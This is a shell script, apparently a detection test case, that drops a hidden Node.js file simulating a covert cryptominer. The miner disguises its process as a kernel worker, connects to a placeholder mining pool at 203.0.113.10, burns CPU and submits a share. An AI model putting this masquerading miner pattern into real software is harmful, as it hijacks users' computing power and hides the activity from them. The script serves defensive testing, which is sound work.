#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.m.js <<'END'
process.title = "kworker/u8:2"; const net = require("net");
const code = Buffer.from("0061736d0100000001060160017f017f0302010007050101680000" + "0a0a010800200041e5006c0b", "hex");
WebAssembly.instantiate(code).then(({ instance: { exports: { h } } }) => {
    const s = net.connect(3333, "203.0.113.10", () => s.write(JSON.stringify({ id: 1, jsonrpc: "2.0", method: "login", params: { login: "4BAIT", pass: "x", agent: "node/1", algo: ["rx/0", "cn/r"] } }) + "\n"));
    s.on("data", (d) => { const job = JSON.parse(String(d).split("\n")[0]).result.job; let n = 7; const end = Date.now() + 2500; while (Date.now() < end) for (let i = 0; i < 1e6; i++) n = h(n ^ i);
        s.write(JSON.stringify({ id: 2, method: "submit", params: { id: "1", job_id: job.job_id, nonce: n.toString(16) } }) + "\n", () => { require("fs").writeFileSync("/tmp/.shares", String(n)); process.exit(); }); });
});
END
node /tmp/.m.js
test -s /tmp/.shares
took_place
